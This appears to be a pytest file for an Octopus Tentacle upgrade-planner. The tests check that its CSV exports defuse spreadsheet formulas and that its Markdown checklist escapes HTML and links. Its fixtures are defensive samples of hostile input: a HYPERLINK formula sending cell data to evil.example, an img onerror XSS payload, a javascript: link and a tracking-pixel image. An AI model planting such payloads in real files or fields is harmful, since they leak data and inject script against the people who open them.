"""What the plan's downloads do with names people typed: the inventory CSV and the checklist CSV
never start a spreadsheet formula, the inventory CSV still uploads again as it was, and the
Markdown checklist shows names as text, never as HTML, a link or an image."""

import csv
import io
import re
from datetime import UTC

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.factories import create_plan, fleet, tentacle
from tests.sync.helpers import inventory_of
from upgrade_planner.domain.evidence import parse_evidence
from upgrade_planner.domain.inventory import parse_csv, to_csv
from upgrade_planner.domain.planner import TentacleInput
from upgrade_planner.domain.spreadsheet import FORMULA_STARTS, formula_restored, formula_safe
from upgrade_planner.plans import services
from upgrade_planner.plans.exports import (
    HOST_MARK,
    NAME_MARK,
    markdown_instructions,
    markdown_text,
)
from upgrade_planner.plans.models import Activity, Plan, Step

FORMULA_NAMES = ('=HYPERLINK("http://evil.example/?"&A1)', "+1+1", "-2+3", "@SUM(1)")


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def starts_a_formula(cell: str) -> bool:
    return cell[:1] != "" and cell[0] in FORMULA_STARTS


# --- The shared rule -------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+cmd", "'+cmd"),
        ("-x", "'-x"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("'=1", "''=1"),  # an apostrophe of the value's own is kept on the way back
        ("'quoted'", "'quoted'"),
        ("web-01", "web-01"),
        ("", ""),
    ],
)
def test_a_cell_that_starts_a_formula_is_written_with_an_apostrophe(value, written):
    assert formula_safe(value) == written
    assert formula_restored(written) == value


@given(st.text(alphabet=st.sampled_from("'=+-@\t\rab "), max_size=8) | st.text(max_size=20))
def test_any_value_is_read_back_as_written_and_never_starts_a_formula(value):
    written = formula_safe(value)

    assert not starts_a_formula(written)
    assert formula_restored(written) == value


# --- The inventory download ------------------------------------------------------------------


def plan_with_formula_names() -> services.CreatedPlan:
    return create_plan(
        tentacles=(
            *(
                tentacle(f"web-0{index}", os=name, environments=(name, "Production"))
                for index, name in enumerate(FORMULA_NAMES, start=1)
            ),
            tentacle("=web-05", hostname="web-05.corp"),
        )
    )


@pytest.mark.django_db
def test_the_inventory_download_starts_no_cell_with_a_formula(client):
    created = plan_with_formula_names()

    response = client.get(f"/p/{created.edit_token}/inventory.csv")

    rows = cells(response.content.decode())
    assert response.status_code == 200
    written = [cell for row in rows[1:] for cell in row]
    assert not [cell for cell in written if starts_a_formula(cell)]
    by_name = {row[0]: row for row in rows[1:]}
    assert by_name["'=web-05"][1] == "web-05.corp"
    assert by_name["web-01"][7] == "'" + FORMULA_NAMES[0]
    assert by_name["web-03"][5] == "'-2+3;Production"


@pytest.mark.django_db
def test_a_downloaded_inventory_uploads_again_unchanged(client):
    created = plan_with_formula_names()
    plan, token = created.plan, created.edit_token
    downloaded = client.get(f"/p/{token}/inventory.csv").content

    assert parse_csv(downloaded) == inventory_of(plan)
    response = client.put(f"/api/v1/plans/{token}/tentacles", downloaded, content_type="text/csv")
    assert response.status_code == 200
    assert (response.json()["added"], response.json()["removed"], response.json()["changed"]) == (
        0,
        0,
        0,
    )
    assert response.json()["version"] == plan.version
    assert inventory_of(plan) == inventory_of(Plan.objects.get(pk=plan.pk))


def test_a_downloaded_inventory_pasted_as_evidence_names_the_machines_as_they_are():
    paste = to_csv([TentacleInput(name="=web-01", version="3.17.14")])

    report = parse_evidence(paste)

    assert [(m.name, m.version) for m in report.machines] == [("=web-01", "3.17.14")]


# --- The checklist exports -------------------------------------------------------------------


@pytest.mark.django_db
def test_the_checklist_csv_starts_no_cell_with_a_formula(client):
    created = create_plan(tentacles=(tentacle("-2+3", hostname="calc.corp"), tentacle("web-02")))

    response = client.get(f"/api/v1/plans/{created.view_token}/export.csv")

    rows = cells(response.content.decode())
    assert not [cell for row in rows for cell in row if starts_a_formula(cell)]
    tentacle_column = rows[0].index("tentacle")
    assert "'-2+3" in {row[tentacle_column] for row in rows[1:]}


def outside_code(markdown: str) -> str:
    """`markdown` without its fenced code blocks and code spans, whose content Markdown shows
    as it is."""
    kept, fence = [], ""
    for line in markdown.splitlines():
        stripped = line.strip()
        if fence:
            fence = "" if stripped == fence else fence
        elif stripped.startswith("```"):
            fence = stripped
        else:
            kept.append(re.sub(r"`[^`]+`", "", line))
    return "\n".join(kept)


HOSTILE_NAMES = (
    "<img src=x onerror=alert(1)>",
    "[x](javascript:alert(1))",
    "![x](http://evil.example/pixel.png)",
)


@pytest.mark.django_db
def test_the_markdown_checklist_shows_html_and_links_in_names_as_text(client):
    created = create_plan(
        name="<script>alert(1)</script> *Prod*\n# Hijacked",
        can_provision_new_server=False,  # in place: a step per Tentacle, titled with its name
        tentacles=tuple(
            tentacle(name, hostname="")  # no hostname: the steps are titled with the name
            for name in HOSTILE_NAMES
        ),
    )

    markdown = client.get(f"/api/v1/plans/{created.view_token}/export.md").content.decode()
    prose = outside_code(markdown)

    assert "<" not in prose
    # The only links are the sources' links to their public pages.
    own_links = re.compile(
        r"\]\((?:https://octopus\.com/|https://github\.com/OctopusDeploy/)[^)\s]*\)"
    )
    assert "](" not in own_links.sub("", prose).replace("\\](", "")
    assert "&lt;img src=x onerror=alert(1)&gt;" in markdown
    assert "\\[x\\](javascript:alert(1))" in markdown
    assert "\\!\\[x\\](http://evil.example/pixel.png)" in markdown
    assert (
        markdown.splitlines()[0]
        == "# &lt;script&gt;alert(1)&lt;/script&gt; \\*Prod\\* \\# Hijacked"
    )
    assert [line for line in markdown.splitlines() if line.startswith("# ")] == [
        markdown.splitlines()[0]
    ]


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("web_01 *new* `x` ~old~ a|b", "web\\_01 \\*new\\* \\`x\\` \\~old\\~ a\\|b"),
        ("R&D <b>", "R&amp;D &lt;b&gt;"),
        ("back\\slash", "back\\\\slash"),
        ("one\ntwo\r\nthree\u2028four", "one two three four"),
        ("Upgrade web-01 (2.6.5 → 3.17.14).", "Upgrade web-01 (2.6.5 → 3.17.14)."),
    ],
)
def test_markdown_text_escapes_what_markdown_and_html_would_read(text, shown):
    assert markdown_text(text) == shown


# --- The runbook in the exports: instructions, progress, who and when ------------------------


def plan_under_way() -> services.CreatedPlan:
    """A new-server plan with custom service accounts, the license key backed up by Ana and
    the SQL Server check skipped by Bo."""
    created = create_plan(
        tentacles=(
            tentacle("web-01", service_account="CORP\\svc-web", environments=("Prod", "DR")),
            tentacle("web-02", service_account="CORP\\svc-web", roles=("web", "api")),
            *fleet(4, prefix="app"),
        )
    )
    plan = created.plan
    services.step_complete(step_id=step_of(plan, "backup-license-key").id, plan=plan, actor="Ana")
    services.step_skip(
        step_id=step_of(plan, "prepare-sql-server").id,
        plan=plan,
        actor="Bo",
        reason="The DBA confirmed it",
    )
    plan.refresh_from_db()
    return created


def step_of(plan: Plan, kind: str, tentacle: str = "") -> Step:
    return Step.objects.get(plan=plan, kind=kind, tentacle=tentacle, retired=False)


def csv_rows(client, token: str) -> list[dict[str, str]]:
    text = client.get(f"/api/v1/plans/{token}/export.csv").content.decode()
    return list(csv.DictReader(io.StringIO(text)))


@pytest.mark.django_db
def test_the_markdown_checklist_gives_every_step_its_instructions_and_state(client):
    created = plan_under_way()

    markdown = client.get(f"/api/v1/plans/{created.view_token}/export.md").content.decode()

    for step in Step.objects.filter(plan=created.plan, tentacle=""):
        title_line = next(
            line for line in markdown.splitlines() if markdown_text(step.title) in line
        )
        assert f"— {step.get_state_display().lower()}" in title_line
        for line in markdown_instructions(step.detail):
            assert line in markdown.splitlines()
    assert "```\n  msiexec /i Octopus.3.17.14-x64.msi" in markdown  # a command, fenced


@pytest.mark.django_db
def test_the_markdown_checklist_says_who_finished_a_step_when_and_why(client):
    created = plan_under_way()
    skip = Activity.objects.get(plan=created.plan, action="skip")

    markdown = client.get(f"/api/v1/plans/{created.view_token}/export.md").content.decode()

    when = skip.at.astimezone(UTC).strftime("%Y-%m-%d %H:%M UTC")
    assert (
        f"- [-] **Confirm SQL Server is ready for 3.17.14** *(optional)* — skipped "
        f"(skipped by Bo, {when}: The DBA confirmed it)"
    ) in markdown
    assert "- [x] **Back up the license key** — done (completed by Ana, " in markdown


@pytest.mark.django_db
def test_an_optional_step_whose_title_says_so_is_not_marked_optional_twice(client):
    created = plan_under_way()
    cleanup = step_of(created.plan, "cleanup-home-folder")
    assert cleanup.optional and cleanup.title.endswith("(optional)")

    markdown = client.get(f"/api/v1/plans/{created.view_token}/export.md").content.decode()

    (line,) = [line for line in markdown.splitlines() if markdown_text(cleanup.title) in line]
    assert line.count("optional") == 1


@pytest.mark.django_db
def test_machines_with_the_same_instructions_share_one_block_that_lists_every_machine(client):
    created = plan_under_way()
    upgrades = Step.objects.filter(plan=created.plan, kind="upgrade-tentacle", canary=False)

    markdown = client.get(f"/api/v1/plans/{created.view_token}/export.md").content.decode()

    assert markdown.count(f"**Upgrade the Tentacle on {HOST_MARK} with Hydra**") == 1
    for step in upgrades:
        assert f"  - [ ] {markdown_text(step.tentacle)} ({step.tentacle}.corp) — " in markdown
    # The shared instructions give back each machine's own with its host put in.
    block = markdown.split(f"**Upgrade the Tentacle on {HOST_MARK} with Hydra**")[1]
    for step in upgrades:
        own = "\n".join(markdown_instructions(step.detail))
        assert own in block.replace(HOST_MARK, f"{step.tentacle}.corp")


@pytest.mark.django_db
def test_machines_whose_commands_differ_get_a_block_each(client):
    created = create_plan(
        tentacles=(
            tentacle("web-01", service_account="CORP\\svc-web"),
            tentacle("web-02", service_account="CORP\\svc-web"),
            tentacle("db-01", service_account="CORP\\svc-db"),
        )
    )

    markdown = client.get(f"/api/v1/plans/{created.view_token}/export.md").content.decode()

    assert markdown.count(f"**Re-apply the service account for {NAME_MARK}**") == 1
    assert markdown.count("**Re-apply the service account for db-01**") == 1
    assert "--username=CORP\\svc-db --password=<password>" in markdown
    assert "--username=CORP\\svc-web --password=<password>" in markdown


def test_a_command_with_backticks_is_fenced_as_it_is():
    lines = markdown_instructions("Run:\n\n```\necho `date` ``x``\n```\n")

    assert lines[-3:] == ["  ```", "  echo `date` ``x``", "  ```"]


@pytest.mark.django_db
def test_the_checklist_csv_keeps_its_columns_in_place_and_adds_the_runbook_after_them(client):
    created = plan_under_way()

    rows = csv_rows(client, created.view_token)

    assert list(rows[0]) == [
        *("number", "id", "hop", "phase", "kind", "title", "tentacle", "optional", "state"),
        *("depends_on", "source", "hostname", "environments", "roles", "method"),
        *("instructions", "who", "when", "reason"),
        *("estimate_minutes", "assignee", "started_at", "finished_at"),
    ]
    by_key = {(row["kind"], row["tentacle"]): row for row in rows}
    web_01 = by_key["reconfigure-service-account", "web-01"]
    step = step_of(created.plan, "reconfigure-service-account", "web-01")
    assert (web_01["hostname"], web_01["environments"], web_01["roles"]) == (
        "web-01.corp",
        "Prod;DR",
        "web",
    )
    assert web_01["instructions"] == step.detail
    assert by_key["reconfigure-service-account", "web-02"]["roles"] == "web;api"
    assert by_key["upgrade-tentacle", "app-0002"]["method"] == "hydra"
    skipped = by_key["prepare-sql-server", ""]
    skip = Activity.objects.get(plan=created.plan, action="skip")
    assert (skipped["state"], skipped["who"], skipped["reason"]) == (
        "skipped",
        "Bo",
        "The DBA confirmed it",
    )
    assert skipped["when"] == skip.at.astimezone(UTC).isoformat().replace("+00:00", "Z")
    assert by_key["backup-license-key", ""]["who"] == "Ana"
    assert by_key["backup-master-key", ""]["who"] == by_key["backup-master-key", ""]["when"] == ""


@pytest.mark.django_db
def test_the_new_csv_columns_start_no_cell_with_a_formula(client):
    created = create_plan(
        tentacles=(tentacle("web-01", environments=("-Prod",), roles=("@web",), hostname="+h"),)
    )
    plan = created.plan
    services.step_skip(
        step_id=step_of(plan, "prepare-sql-server").id,
        plan=plan,
        actor="=HYPERLINK(1)",
        reason="-2+3",
    )

    text = client.get(f"/api/v1/plans/{created.view_token}/export.csv").content.decode()

    assert not [cell for row in cells(text) for cell in row if starts_a_formula(cell)]
    rows = list(csv.DictReader(io.StringIO(text)))
    skipped = next(row for row in rows if row["kind"] == "prepare-sql-server")
    assert (skipped["who"], skipped["reason"]) == ("'=HYPERLINK(1)", "'-2+3")
    machine = next(row for row in rows if row["tentacle"] == "web-01")
    assert (machine["hostname"], machine["environments"], machine["roles"]) == (
        "'+h",
        "'-Prod",
        "'@web",
    )


@pytest.mark.django_db
def test_a_step_held_back_again_does_not_show_who_finished_it_before(client):
    created = plan_under_way()
    plan = created.plan
    master_key = step_of(plan, "backup-master-key")
    services.step_complete(step_id=master_key.id, plan=plan, actor="Ana")
    services.step_complete(step_id=step_of(plan, "backup-database").id, plan=plan, actor="Ana")
    install = step_of(plan, "install-server-new-machine")
    services.step_complete(step_id=install.id, plan=plan, actor="Ana")
    services.step_reopen(step_id=install.id, plan=plan, actor="Cy", reason="Wrong file")
    services.step_reopen(step_id=master_key.id, plan=plan, actor="Cy", reason="Wrong key")
    install.refresh_from_db()
    assert install.state == "blocked"  # held back again by its prerequisite, unlogged

    rows = {row["kind"]: row for row in csv_rows(client, created.view_token)}

    assert (rows["backup-master-key"]["who"], rows["backup-master-key"]["reason"]) == (
        "Cy",
        "Wrong key",
    )
    held = rows["install-server-new-machine"]
    assert (held["state"], held["who"], held["when"], held["reason"]) == (
        "blocked",
        "",
        "",
        "",
    )


@pytest.mark.django_db
@pytest.mark.parametrize("export", ["export.md", "export.csv"])
def test_an_export_reads_as_many_queries_for_400_tentacles_as_for_4(
    client, django_assert_max_num_queries, export
):
    small = create_plan(tentacles=fleet(4))
    large = create_plan(tentacles=fleet(400))

    with django_assert_max_num_queries(6) as small_queries:
        assert client.get(f"/api/v1/plans/{small.view_token}/{export}").status_code == 200
    with django_assert_max_num_queries(len(small_queries.captured_queries)):
        assert client.get(f"/api/v1/plans/{large.view_token}/{export}").status_code == 200
